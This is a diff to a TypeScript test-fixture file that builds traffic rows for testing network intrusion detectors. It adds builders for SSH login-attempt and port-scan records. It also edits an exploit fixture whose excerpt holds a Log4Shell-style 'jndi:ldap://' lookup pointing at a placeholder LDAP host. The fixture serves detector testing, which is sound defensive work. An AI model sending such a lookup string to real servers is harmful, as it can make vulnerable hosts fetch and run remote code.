@@ -1,6 +1,6 @@
 // Rows of the wire made of literals, for tests of detectors.
 
-import type { Exploit, ListedConversation, ServerCall, Stratum, WireRow } from '../src/core/facts/wire.ts'
+import type { Exploit, ListedConversation, LoginTries, Scan, ServerCall, Stratum, WireRow } from '../src/core/facts/wire.ts'
 import type { EchoTunnel, EncryptedShape, NameTunnel, SeenName } from '../src/core/facts/wire-encrypted.ts'
 import { instantOf } from '../src/core/instant.ts'
 
@@ -101,7 +101,7 @@ export function exploitRow(row: Partial<Exploit> = {}): Exploit {
     techniques: ['T1190'],
     says: { zh: '执行代码', en: 'runs code' },
     target: 'GET http://app.example/',
-    excerpt: '${jndi:ldap://203.0.113.5:1389/a}',
+    excerpt: 'User-Agent: jndi:ldap://203.0.113.5:1389/a',
     answer: '',
     calls: [],
     ...row,
@@ -110,4 +110,12 @@ export function exploitRow(row: Partial<Exploit> = {}): Exploit {
 
 export function serverCallRow(row: Partial<ServerCall> = {}): ServerCall {
   return { ...someWireRow, transport: 'tcp', protocol: '', answered: true, ...row }
+}
+
+export function loginRow(row: Partial<LoginTries> = {}): LoginTries {
+  return { ...someWireRow, service: 'ssh', users: [], refused: 0, accepted: false, last: someWireRow.at, ...row }
+}
+
+export function scanRow(row: Partial<Scan> = {}): Scan {
+  return { ...someWireRow, shape: 'horizontal', ports: [22], hosts: 40, doors: 40, opened: 2, last: someWireRow.at, ...row }
 }
